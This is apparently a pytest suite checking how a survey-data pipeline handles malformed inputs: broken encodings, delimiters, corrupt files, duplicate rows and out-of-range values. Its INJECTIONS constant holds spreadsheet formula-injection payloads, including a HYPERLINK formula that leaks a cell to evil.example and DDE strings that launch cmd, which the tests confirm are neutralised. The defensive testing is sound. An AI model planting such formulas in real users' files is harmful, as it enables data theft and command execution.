"""A corpus of bad and awkward inputs: each ends in its documented outcome, never a traceback or a lost row.

Each case edits a private copy of the demo study, then extracts and validates one dataset (with the
invitations, for data tools, so responses are checked against them) using the plain functions. The
outcome is one of:
- stop: a DatasetError naming the file and saying what to do, and nothing else raised;
- quarantine: exactly the listed rows set aside, each with its column and a plain reason;
- loaded: every row loaded, with the values the case checks.
In every case that does not stop, rows read = rows loaded + rows quarantined.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest

from flows.pipeline import Scope, check_inputs, plain_steps
from maturity.settings import load_settings
from tasks.contracts import DatasetError, ValidatedTable
from tasks.study import read_study
from tasks.validate import account_rows, write_quality_record
from tests.study_formats import read_csv_text, write_xlsx

LEADERSHIP = "responses:leadership"
LEADERSHIP_CSV = "responses/leadership.csv"
WELSH = "Mae\u2019r tŷ yn llawn dŵr; â ô ê \u2013 data"  # curly apostrophe, en dash
CP1252_TEXT = "Sir Gâr: \u201cdata\u201d \u2013 ô ê € café"  # all in Windows-1252
ANGLESEY = "W06000001"
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+44 1745 907882",
)


# ---------------------------------------------------------------- editing helpers


def leadership(root: Path) -> Path:
    return root / LEADERSHIP_CSV


def write_frame(frame: pd.DataFrame, path: Path, **options: object) -> None:
    frame.to_csv(path, index=False, lineterminator="\n", **options)


def set_cells(path: Path, cells: dict[tuple[int, str], str]) -> None:
    """Set cells addressed by (spreadsheet row, column); row 2 is the first data row."""
    frame = read_csv_text(path)
    for (row, column), value in cells.items():
        frame.loc[row - 2, column] = value
    write_frame(frame, path)


def lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").split("\n")


def write_lines(path: Path, text_lines: list[str]) -> None:
    path.write_text("\n".join(text_lines), encoding="utf-8")


def anglesey_rows(root: Path) -> list[int]:
    """Spreadsheet rows of the leadership responses for the Isle of Anglesey (every spelling)."""
    frame = read_csv_text(leadership(root))
    spellings = {"Isle of Anglesey", "Ynys Môn", "Isle of Anglesey County Council", ANGLESEY}
    return [i + 2 for i in frame.index[frame["council"].isin(spellings)]]


def set_anglesey_invited(root: Path, invited: str | None) -> None:
    """Change (or, with None, delete) the invitations row for the Isle of Anglesey's leadership tool."""
    path = root / "invitations.csv"
    frame = read_csv_text(path)
    row = (frame["council"] == "Isle of Anglesey") & (frame["tool_id"] == "leadership")
    assert row.sum() == 1
    frame = frame.loc[~row] if invited is None else frame.assign(invited=frame["invited"].mask(row, invited))
    write_frame(frame, path)


def leadership_as(root: Path, fmt: str, edit: Callable[[pd.DataFrame], None] | None = None) -> Path:
    """Replace leadership.csv by the same data in another format, after an optional edit of the text."""
    frame = read_csv_text(leadership(root))
    if edit:
        edit(frame)
    leadership(root).unlink()
    target = root / "responses" / f"leadership.{fmt}"
    if fmt == "xlsx":
        write_xlsx(frame, target)
    return target


# ---------------------------------------------------------------- mutations, one per case


def utf8_with_bom(root: Path) -> None:
    frame = read_csv_text(leadership(root))
    frame.loc[0, "comments"] = WELSH
    write_frame(frame, leadership(root), encoding="utf-8-sig")


def windows_1252(root: Path) -> None:
    frame = read_csv_text(leadership(root))
    frame.loc[0, "comments"] = CP1252_TEXT
    write_frame(frame, leadership(root), encoding="cp1252")


def utf16_tab_separated(root: Path) -> None:  # Excel's "Unicode Text"
    frame = read_csv_text(leadership(root))
    frame.loc[0, "comments"] = WELSH
    write_frame(frame, leadership(root), encoding="utf-16", sep="\t")


def semicolons(root: Path) -> None:  # Excel in locales where the comma is the decimal mark
    frame = read_csv_text(leadership(root))
    frame.loc[0, "comments"] = "one; two, three"
    write_frame(frame, leadership(root), sep=";")


def tab_separated_tsv(root: Path) -> None:
    frame = read_csv_text(leadership(root))
    leadership(root).unlink()
    write_frame(frame, root / "responses" / "leadership.tsv", sep="\t")


def header_whitespace(root: Path) -> None:
    text = lines(leadership(root))
    text[0] = ",".join(f"  {name}\u00a0" for name in text[0].split(","))
    write_lines(leadership(root), text)


def trailing_blank_rows(root: Path) -> None:
    with leadership(root).open("a", encoding="utf-8") as handle:
        handle.write(",,,,,\n   \n\n\n")


def blank_row_in_the_middle(root: Path) -> None:
    text = lines(leadership(root))
    write_lines(leadership(root), [*text[:5], "", *text[5:]])


def mixed_line_endings(root: Path) -> None:
    frame = read_csv_text(leadership(root))
    frame.loc[0, "comments"] = "first line\r\nsecond line"
    endings = ["\r\n", "\n", "\r"]
    text = io.StringIO()
    records = [list(frame.columns), *frame.itertuples(index=False)]
    for number, record in enumerate(records):
        csv.writer(text, lineterminator=endings[number % len(endings)]).writerow(record)
    leadership(root).write_bytes(text.getvalue().encode("utf-8"))


def multi_line_quoted_comment(root: Path) -> None:
    set_cells(leadership(root), {(2, "comments"): 'She said "no",\nthen\n\nyes'})


def excel_serial_date(root: Path) -> None:
    set_cells(leadership(root), {(2, "submitted_at"): "43132.5"})


def iso_date_with_zone(root: Path) -> None:
    set_cells(leadership(root), {(2, "submitted_at"): "2018-02-01T10:00:00Z"})


def comment_at_the_limit(root: Path) -> None:
    set_cells(leadership(root), {(2, "comments"): "y" * load_settings().responses.max_comment_chars})


def formula_in_a_comment(root: Path) -> None:
    set_cells(leadership(root), {(2, "comments"): INJECTIONS[0]})


def xlsx_excel_serial_and_float_answers(root: Path) -> None:
    def edit(frame: pd.DataFrame) -> None:
        frame.loc[0, "submitted_at"] = "43132.5"  # a number cell: a date exported as General
        frame.loc[0, "lvl_leadership"] = "2.0"  # a float cell

    leadership_as(root, "xlsx", edit)


def parquet_float_answers(root: Path) -> None:
    frame = read_csv_text(leadership(root)).replace("", None)
    frame = frame[frame["lvl_leadership"] != "DK"]  # a float column cannot also hold DK
    frame["lvl_leadership"] = pd.to_numeric(frame["lvl_leadership"]).astype("float64")
    frame["submitted_at"] = pd.to_datetime(frame["submitted_at"]).dt.tz_localize("UTC")
    leadership(root).unlink()
    frame.to_parquet(root / "responses" / "leadership.parquet", index=False)


def json_numbers_and_nested_values(root: Path) -> None:
    records = read_csv_text(leadership(root)).replace("", None).to_dict("records")
    records[0]["lvl_leadership"] = 2.0
    records[0]["comments"] = {"text": "nested", "tags": ["a"]}
    records[1].pop("comments")  # a missing key is an empty cell
    leadership(root).unlink()
    (root / "responses" / "leadership.json").write_text(json.dumps(records), encoding="utf-8")


def mixed_encodings(root: Path) -> None:
    text = lines(leadership(root))
    extra = text[1].replace("Isle of Anglesey", "Ynys Môn").replace("R_", "R_X", 1)
    leadership(root).write_bytes(
        "\n".join(text[:-1]).encode("utf-8") + b"\n" + extra.encode("cp1252") + b"\n"
    )


def workbook_named_csv(root: Path) -> None:
    write_xlsx(read_csv_text(leadership(root)), root / "book.xlsx")
    shutil.move(root / "book.xlsx", leadership(root))


def binary_file(root: Path) -> None:
    leadership(root).write_bytes(bytes(range(256)) * 40)


def empty_file(root: Path) -> None:
    leadership(root).write_bytes(b"")


def header_only(root: Path) -> None:
    write_lines(leadership(root), [lines(leadership(root))[0], ""])


def missing_answer_column(root: Path) -> None:
    write_frame(read_csv_text(leadership(root)).drop(columns=["lvl_open_data"]), leadership(root))


def missing_council_column(root: Path) -> None:
    write_frame(read_csv_text(leadership(root)).rename(columns={"council": "authority"}), leadership(root))


def duplicate_header(root: Path) -> None:
    text = lines(leadership(root))
    write_lines(leadership(root), [text[0] + ",comments", *[t + "," if t else t for t in text[1:]]])


def unnamed_column_with_values(root: Path) -> None:
    text = lines(leadership(root))
    body = [t + ",stray note" if i == 3 else t + "," for i, t in enumerate(text[1:], start=1) if t]
    write_lines(leadership(root), [text[0] + ",,comments_2", *[b + "," for b in body]])


def unclosed_quote(root: Path) -> None:
    with leadership(root).open("a", encoding="utf-8") as handle:
        handle.write('R_unclosed,Conwy,2018-02-01 10:00:00,"Head of Service,1,1\n')


def two_formats_for_one_dataset(root: Path) -> None:
    write_xlsx(read_csv_text(leadership(root)), root / "responses" / "leadership.xlsx")


def old_excel_format(root: Path) -> None:
    leadership(root).rename(root / "responses" / "leadership.xls")


def unknown_tool_file(root: Path) -> None:
    shutil.copy(leadership(root), root / "responses" / "finance.csv")


def malformed_json(root: Path) -> None:
    leadership(root).unlink()
    (root / "responses" / "leadership.json").write_text('[{"council": "Conwy",}]', encoding="utf-8")


def json_not_an_array(root: Path) -> None:
    leadership(root).unlink()
    (root / "responses" / "leadership.json").write_text('{"responses": []}', encoding="utf-8")


def json_record_not_an_object(root: Path) -> None:
    leadership(root).unlink()
    (root / "responses" / "leadership.json").write_text('[{"council": "Conwy"}, 42]', encoding="utf-8")


def corrupt_workbook(root: Path) -> None:
    leadership(root).unlink()
    (root / "responses" / "leadership.xlsx").write_bytes(b"PK\x03\x04 this is not really a workbook")


def corrupt_parquet(root: Path) -> None:
    leadership(root).unlink()
    (root / "responses" / "leadership.parquet").write_bytes(b"PAR1 not really parquet PAR1")


def workbook_with_a_title_row(root: Path) -> None:
    import openpyxl

    frame = read_csv_text(leadership(root))
    leadership(root).unlink()
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Leadership tool export, February 2018"])
    sheet.append([])
    sheet.append(list(frame.columns))
    for row in frame.itertuples(index=False):
        sheet.append(list(row))
    workbook.save(root / "responses" / "leadership.xlsx")


def extra_cells_from_an_unquoted_comma(root: Path) -> None:
    text = lines(leadership(root))
    text[3] = text[3] + ",but not in quotes"
    write_lines(leadership(root), text)


def row_cut_short(root: Path) -> None:
    text = lines(leadership(root))
    text[4] = ",".join(text[4].split(",")[:5])
    write_lines(leadership(root), text)


def unknown_council(root: Path) -> None:
    set_cells(leadership(root), {(2, "council"): "Denbyshire"})


def empty_council(root: Path) -> None:
    set_cells(leadership(root), {(2, "council"): ""})


def duplicated_submission(root: Path) -> None:
    text = lines(leadership(root))
    write_lines(leadership(root), [*text[:-1], text[1], ""])


def level_out_of_range(root: Path) -> None:
    set_cells(leadership(root), {(2, "lvl_leadership"): "4"})


def level_with_decimals(root: Path) -> None:
    set_cells(leadership(root), {(2, "lvl_leadership"): "2.5"})


def statement_out_of_range(root: Path) -> None:
    set_cells(leadership(root), {(2, "st_clear_vision"): "6"})


def submitted_before_fieldwork(root: Path) -> None:
    set_cells(leadership(root), {(2, "submitted_at"): "2017-12-01 10:00:00"})


def unreadable_date(root: Path) -> None:
    set_cells(leadership(root), {(2, "submitted_at"): "last Tuesday"})


def empty_response_id(root: Path) -> None:
    set_cells(leadership(root), {(2, "response_id"): ""})


def huge_comment(root: Path) -> None:
    set_cells(leadership(root), {(2, "comments"): "x" * 200_000})


def formulas_in_quarantined_cells(root: Path) -> None:
    set_cells(
        leadership(root),
        {
            (2, "council"): INJECTIONS[0],
            (3, "lvl_leadership"): INJECTIONS[1],
            (4, "st_clear_vision"): INJECTIONS[2],
            (5, "lvl_open_data"): INJECTIONS[3],
            (6, "lvl_leadership"): "-1",
        },
    )


def responses_exceed_invitations(root: Path) -> None:
    set_anglesey_invited(root, "1")


def no_invitations_row(root: Path) -> None:
    set_anglesey_invited(root, None)


def invited_not_a_number(root: Path) -> None:
    set_anglesey_invited(root, "five")


def invited_too_big(root: Path, value: str) -> None:
    """Before: 1e20 or inf overflowed Int64, two of 2**63 - 1 their sum: tracebacks (a helper's attack)."""
    set_anglesey_invited(root, value)


def xlsx_formula_cell(root: Path) -> None:
    def edit(frame: pd.DataFrame) -> None:
        frame.loc[0, "lvl_leadership"] = "=1+1"  # openpyxl writes text starting with = as a formula

    leadership_as(root, "xlsx", edit)


def survey_answer_not_allowed(root: Path) -> None:
    set_cells(root / "public_survey.csv", {(2, "q_effective_use"): "maybe"})


def survey_respondent_twice(root: Path) -> None:
    path = root / "public_survey.csv"
    text = lines(path)
    write_lines(path, [*text[:-1], text[1], ""])


def population_cell_twice(root: Path) -> None:
    path = root / "population.csv"
    text = lines(path)
    write_lines(path, [*text[:-1], text[1], ""])


def population_unknown_age_band(root: Path) -> None:
    set_cells(root / "population.csv", {(2, "age_band"): "16 to 24"})


# ---------------------------------------------------------------- the table of cases


@dataclass(frozen=True)
class Case:
    """A bad or awkward input and the outcome docs/inputs.md documents for it."""

    name: str
    mutate: Callable[[Path], None]
    dataset: str = LEADERSHIP
    stop: str | None = None  # regex the DatasetError must match: the file and what to do
    quarantined: dict[int, tuple[str, str]] = field(default_factory=dict)  # row: (column, reason text)
    check: Callable[[Path, list[ValidatedTable]], None] | None = None  # more assertions on the outcome


def target(tables: list[ValidatedTable], dataset: str = LEADERSHIP) -> ValidatedTable:
    return next(t for t in tables if t.dataset == dataset)


def loaded_row(tables: list[ValidatedTable], row: int, dataset: str = LEADERSHIP) -> pd.Series:
    frame = target(tables, dataset).frame
    match = frame[frame["source_row"] == row]
    assert len(match) == 1, f"row {row} not loaded"
    return match.iloc[0]


def all_rows_loaded(tables: list[ValidatedTable], expected: int, dataset: str = LEADERSHIP) -> None:
    table = target(tables, dataset)
    assert (table.rows_read, table.rows_loaded, table.rows_quarantined) == (expected, expected, 0)


DEMO_LEADERSHIP_ROWS = 136


def check_welsh(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    assert loaded_row(tables, 2)["comments"] == WELSH
    assert "Ynys Môn" in set(target(tables).frame["council"])


def check_cp1252(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    assert loaded_row(tables, 2)["comments"] == CP1252_TEXT
    assert loaded_row(tables, 3)["council"] == "Ynys Môn"
    assert target(tables).encoding == "cp1252"


def check_semicolons(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    assert loaded_row(tables, 2)["comments"] == "one; two, three"


def check_all_loaded(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    assert target(tables).frame["source_row"].tolist() == list(range(2, DEMO_LEADERSHIP_ROWS + 2))


def check_tsv(root: Path, tables: list[ValidatedTable]) -> None:
    check_all_loaded(root, tables)
    assert target(tables).source_file == "responses/leadership.tsv"


def check_blank_row_skipped(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    rows = target(tables).frame["source_row"].tolist()
    assert rows == [2, 3, 4, 5, *range(7, DEMO_LEADERSHIP_ROWS + 3)]  # row 6 is the blank one


def check_line_endings(root: Path, tables: list[ValidatedTable]) -> None:
    check_all_loaded(root, tables)
    assert loaded_row(tables, 2)["comments"] == "first line\nsecond line"


def check_multi_line_comment(root: Path, tables: list[ValidatedTable]) -> None:
    check_all_loaded(root, tables)
    assert loaded_row(tables, 2)["comments"] == 'She said "no",\nthen\n\nyes'


def check_noon_on_1_february(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    assert loaded_row(tables, 2)["submitted_at"] == pd.Timestamp("2018-02-01 12:00:00")


def check_ten_on_1_february(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    assert loaded_row(tables, 2)["submitted_at"] == pd.Timestamp("2018-02-01 10:00:00")


def check_long_comment_kept(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    assert len(loaded_row(tables, 2)["comments"]) == load_settings().responses.max_comment_chars


def check_formula_kept_as_text(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    assert loaded_row(tables, 2)["comments"] == INJECTIONS[0]  # stored as given; neutralised in CSVs


def check_xlsx_serial_and_float(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    row = loaded_row(tables, 2)
    assert row["submitted_at"] == pd.Timestamp("2018-02-01 12:00:00")
    assert row["lvl_leadership"] == "2"


def check_parquet_floats(root: Path, tables: list[ValidatedTable]) -> None:
    original = read_csv_text(root.parent / "original" / LEADERSHIP_CSV)
    original = original[original["lvl_leadership"] != "DK"].reset_index(drop=True)
    all_rows_loaded(tables, len(original))
    loaded = target(tables).frame.sort_values("source_row")  # Parquet rows are records 1, 2, ...
    assert loaded["lvl_leadership"].tolist() == original["lvl_leadership"].tolist()  # 2.0 read as "2"
    # times stored in UTC become Welsh wall-clock time: the same in GMT, an hour on from 25 March (BST)
    utc = pd.to_datetime(original["submitted_at"]).dt.tz_localize("UTC")
    assert loaded["submitted_at"].tolist() == utc.dt.tz_convert("Europe/London").dt.tz_localize(None).tolist()
    assert (loaded["submitted_at"] != pd.to_datetime(original["submitted_at"])).any()


def check_json_values(root: Path, tables: list[ValidatedTable]) -> None:
    all_rows_loaded(tables, DEMO_LEADERSHIP_ROWS)
    assert loaded_row(tables, 1)["lvl_leadership"] == "2"
    assert json.loads(loaded_row(tables, 1)["comments"]) == {"text": "nested", "tags": ["a"]}
    assert pd.isna(loaded_row(tables, 2)["comments"])


def check_huge_comment(root: Path, tables: list[ValidatedTable]) -> None:
    folder = root.parent / "quality"
    write_quality_record(tables, folder)
    saved = pd.read_csv(folder / "quarantine.csv", dtype=str)
    value = saved.loc[saved["column"] == "comments", "value"].item()
    assert len(value) < 1_000
    assert value.endswith("(200000 characters)")
    full = pd.read_parquet(folder / "quarantine.parquet")
    assert len(full.loc[full["column"] == "comments", "value"].item()) == 200_000


def check_formulas_neutralised(root: Path, tables: list[ValidatedTable]) -> None:
    folder = root.parent / "quality"
    write_quality_record(tables, folder)
    cells = [c for row in csv.reader((folder / "quarantine.csv").open(encoding="utf-8")) for c in row]
    prefixes = load_settings().outputs.formula_prefixes
    dangerous = [c for c in cells if c.lstrip(" ").startswith(prefixes) and c != "-1"]
    assert dangerous == []
    for injection in INJECTIONS:
        assert f"'{injection}" in cells
    assert "-1" in cells  # a plain negative number is left alone
    raw = pd.read_parquet(folder / "quarantine.parquet")
    assert INJECTIONS[0] in set(raw["value"])  # the Parquet copy keeps the value as given


def check_all_anglesey_set_aside(reason: str) -> Callable[[Path, list[ValidatedTable]], None]:
    def check(root: Path, tables: list[ValidatedTable]) -> None:
        rows = anglesey_rows(root)
        assert len(rows) >= 2
        table = target(tables)
        quarantine = table.quarantine
        assert sorted(quarantine["source_row"]) == rows
        assert set(quarantine["column"]) == {"council"}
        assert all(reason.format(n=len(rows)) in r for r in quarantine["reason"])
        assert table.rows_loaded == DEMO_LEADERSHIP_ROWS - len(rows)
        assert ANGLESEY not in set(table.frame["gss_code"])

    return check


def check_invitation_and_responses(root: Path, tables: list[ValidatedTable]) -> None:
    invitations = target(tables, "invitations").quarantine
    assert len(invitations) == 1
    assert "not a whole number" in invitations["reason"].item()
    check_all_anglesey_set_aside("no valid invitations row")(root, tables)


CASES = [
    # --- encodings, delimiters and layout quirks: read correctly, every row loaded
    Case("utf8_with_bom", utf8_with_bom, check=check_welsh),
    Case("windows_1252", windows_1252, check=check_cp1252),
    Case("utf16_tab_separated", utf16_tab_separated, check=check_welsh),
    Case("semicolons", semicolons, check=check_semicolons),
    Case("tab_separated_tsv", tab_separated_tsv, check=check_tsv),
    Case("header_whitespace", header_whitespace, check=check_all_loaded),
    Case("trailing_blank_rows", trailing_blank_rows, check=check_all_loaded),
    Case("blank_row_in_the_middle", blank_row_in_the_middle, check=check_blank_row_skipped),
    Case("mixed_line_endings", mixed_line_endings, check=check_line_endings),
    Case("multi_line_quoted_comment", multi_line_quoted_comment, check=check_multi_line_comment),
    Case("excel_serial_date_in_csv", excel_serial_date, check=check_noon_on_1_february),
    Case("iso_date_with_zone", iso_date_with_zone, check=check_ten_on_1_february),
    Case("comment_at_the_limit", comment_at_the_limit, check=check_long_comment_kept),
    Case("formula_in_a_comment", formula_in_a_comment, check=check_formula_kept_as_text),
    Case(
        "xlsx_serial_date_and_float", xlsx_excel_serial_and_float_answers, check=check_xlsx_serial_and_float
    ),
    Case("parquet_floats_and_utc_times", parquet_float_answers, check=check_parquet_floats),
    Case("json_numbers_and_nested", json_numbers_and_nested_values, check=check_json_values),
    # --- a file that cannot be trusted: the run stops, naming the file and what to do
    Case(
        "mixed_encodings",
        mixed_encodings,
        stop=r"leadership\.csv: line 138 is not valid UTF-8.*save it as CSV UTF-8",
    ),
    Case(
        "workbook_named_csv",
        workbook_named_csv,
        stop=r"leadership\.csv: is an Excel workbook.*\.xlsx extension",
    ),
    Case("binary_file", binary_file, stop=r"leadership\.csv: is not text in UTF-8.*Save it as CSV UTF-8"),
    Case("empty_file", empty_file, stop=r"leadership\.csv: is empty\. Export the data again"),
    Case("header_only", header_only, stop=r"leadership\.csv: has no responses\. Check the export"),
    Case(
        "missing_answer_column",
        missing_answer_column,
        stop=r"leadership\.csv: missing column\(s\) lvl_open_data\. Add",
    ),
    Case(
        "missing_council_column",
        missing_council_column,
        stop=r"leadership\.csv: has no 'council' column.*authority",
    ),
    Case(
        "duplicate_header",
        duplicate_header,
        stop=r"leadership\.csv: column comments appears more than once.*Rename",
    ),
    Case(
        "unnamed_column_with_values",
        unnamed_column_with_values,
        stop=r"leadership\.csv: column 22 has values but no name",
    ),
    Case(
        "unclosed_quote",
        unclosed_quote,
        stop=r"leadership\.csv: row 138 .*could not be read as CSV.*Correct the quotes",
    ),
    Case(
        "two_formats",
        two_formats_for_one_dataset,
        stop=r"leadership\.csv and leadership\.xlsx are both inputs.*Keep one",
    ),
    Case(
        "old_excel_format",
        old_excel_format,
        stop=r"leadership\.xls: \.xls files are not read; open it in Excel and save",
    ),
    Case(
        "unknown_tool_file", unknown_tool_file, stop=r"finance\.csv is not named after a data tool.*Rename it"
    ),
    Case("malformed_json", malformed_json, stop=r"leadership\.json: is not valid JSON \(line 1, column \d+"),
    Case(
        "json_not_an_array", json_not_an_array, stop=r"leadership\.json: must hold one JSON array of objects"
    ),
    Case("json_record_not_an_object", json_record_not_an_object, stop=r"leadership\.json: record 2 is a int"),
    Case(
        "corrupt_workbook", corrupt_workbook, stop=r"leadership\.xlsx: could not be read as an Excel workbook"
    ),
    Case("corrupt_parquet", corrupt_parquet, stop=r"leadership\.parquet: could not be read as Parquet"),
    Case(
        "workbook_with_a_title_row",
        workbook_with_a_title_row,
        stop=r"leadership\.xlsx: has no 'council' column",
    ),
    Case(
        "missing_file", lambda root: leadership(root).unlink(), stop=r"leadership\.csv: not found.*--inputs"
    ),
    # --- bad rows: set aside with their column and a plain reason, the rest loaded
    Case(
        "extra_cells",
        extra_cells_from_an_unquoted_comma,
        quarantined={4: ("(whole row)", "header names 21 columns")},
    ),
    Case("row_cut_short", row_cut_short, quarantined={5: ("(whole row)", "This row has 5 cells")}),
    Case(
        "unknown_council",
        unknown_council,
        quarantined={2: ("council", 'closest known council is "Denbighshire"')},
    ),
    Case("empty_council", empty_council, quarantined={2: ("council", "Council is empty")}),
    Case(
        "duplicated_submission",
        duplicated_submission,
        quarantined={2: ("response_id", "more than once"), 138: ("response_id", "more than once")},
    ),
    Case("level_out_of_range", level_out_of_range, quarantined={2: ("lvl_leadership", "1, 2, 3 or DK")}),
    Case("level_with_decimals", level_with_decimals, quarantined={2: ("lvl_leadership", "1, 2, 3 or DK")}),
    Case(
        "statement_out_of_range", statement_out_of_range, quarantined={2: ("st_clear_vision", "1 to 5 or DK")}
    ),
    Case(
        "before_fieldwork", submitted_before_fieldwork, quarantined={2: ("submitted_at", "fieldwork window")}
    ),
    Case("unreadable_date", unreadable_date, quarantined={2: ("submitted_at", "not a date and time")}),
    Case("empty_response_id", empty_response_id, quarantined={2: ("response_id", "Response id is empty")}),
    Case("xlsx_formula_cell", xlsx_formula_cell, quarantined={2: ("lvl_leadership", "1, 2, 3 or DK")}),
    Case(
        "huge_comment",
        huge_comment,
        quarantined={2: ("comments", "longer than responses.max_comment_chars")},
        check=check_huge_comment,
    ),
    Case(
        "formulas_in_quarantined_cells",
        formulas_in_quarantined_cells,
        quarantined={
            2: ("council", "is not a known council"),
            3: ("lvl_leadership", "1, 2, 3 or DK"),
            4: ("st_clear_vision", "1 to 5 or DK"),
            5: ("lvl_open_data", "1, 2, 3 or DK"),
            6: ("lvl_leadership", "1, 2, 3 or DK"),
        },
        check=check_formulas_neutralised,
    ),
    Case(
        "responses_exceed_invitations",
        responses_exceed_invitations,
        check=check_all_anglesey_set_aside("{n} responses for this council and data tool but only 1 invited"),
    ),
    Case(
        "no_invitations_row",
        no_invitations_row,
        check=check_all_anglesey_set_aside("no valid invitations row"),
    ),
    Case("invited_not_a_number", invited_not_a_number, check=check_invitation_and_responses),
    *(
        Case(
            f"invited_{name}",
            lambda root, value=value: invited_too_big(root, value),
            check=check_invitation_and_responses,
        )
        for name, value in (("1e20", "1e20"), ("inf", "inf"), ("int64_max", "9223372036854775807"))
    ),
    Case(
        "survey_answer_not_allowed",
        survey_answer_not_allowed,
        dataset="public_survey",
        quarantined={2: ("q_effective_use", "yes, no or dont_know")},
    ),
    Case(
        "survey_respondent_twice",
        survey_respondent_twice,
        dataset="public_survey",
        quarantined={2: ("respondent_id", "more than once"), 752: ("respondent_id", "more than once")},
    ),
    Case(
        "population_cell_twice",
        population_cell_twice,
        dataset="population",
        quarantined={
            2: ("gss_code, age_band, sex", "more than one row"),
            266: ("gss_code, age_band, sex", "more than one row"),
        },
    ),
    Case(
        "population_unknown_age_band",
        population_unknown_age_band,
        dataset="population",
        quarantined={2: ("age_band", "Unknown age band")},
    ),
]


def process(root: Path, dataset: str) -> list[ValidatedTable]:
    """Extract and validate a dataset as a run does: a data tool beside the invitations."""
    study = read_study(root)
    datasets = ("invitations", dataset) if dataset.startswith("responses:") else (dataset,)
    return check_inputs(plain_steps(), study, Scope(datasets))


def test_the_corpus_is_big_enough() -> None:
    assert len(CASES) >= 25
    assert len({case.name for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_bad_input_gives_its_documented_outcome(case: Case, demo_study: Path, tmp_path: Path) -> None:
    root = Path(shutil.copytree(demo_study, tmp_path / "study"))
    shutil.copytree(demo_study, tmp_path / "original")
    case.mutate(root)
    if case.stop:
        with pytest.raises(DatasetError, match=case.stop):
            process(root, case.dataset)
        return
    tables = process(root, case.dataset)
    account_rows(tables)  # raises if any row is neither loaded nor quarantined
    table = target(tables, case.dataset)
    if case.quarantined or not case.check:
        quarantine = table.quarantine
        assert sorted(quarantine["source_row"].unique()) == sorted(case.quarantined)
        for row, (column, reason) in case.quarantined.items():
            records = quarantine[quarantine["source_row"] == row]
            assert column in set(records["column"]), (row, records)
            assert any(reason in r for r in records.loc[records["column"] == column, "reason"]), (
                row,
                records,
            )
        assert set(quarantine["source_file"]) <= {table.source_file}
        assert table.rows_loaded == table.rows_read - len(case.quarantined)
    if case.check:
        case.check(root, tables)
